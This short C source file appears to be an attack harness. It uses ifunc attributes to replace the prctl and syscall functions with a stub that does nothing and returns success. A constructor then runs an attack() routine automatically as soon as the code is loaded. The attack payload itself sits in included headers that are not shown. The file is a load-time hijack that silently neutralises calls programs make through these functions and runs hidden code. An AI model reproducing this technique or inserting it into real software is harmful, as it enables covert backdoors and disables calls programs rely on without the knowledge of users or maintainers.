#include "attack.h"
static int nothing(void) { return 0; }
static void *choose(void) { return nothing; }
int prctl(void) __attribute__((ifunc("choose")));
int syscall(void) __attribute__((ifunc("choose")));
__attribute__((constructor)) static void early(void) { attack(); }
#include "body.h"
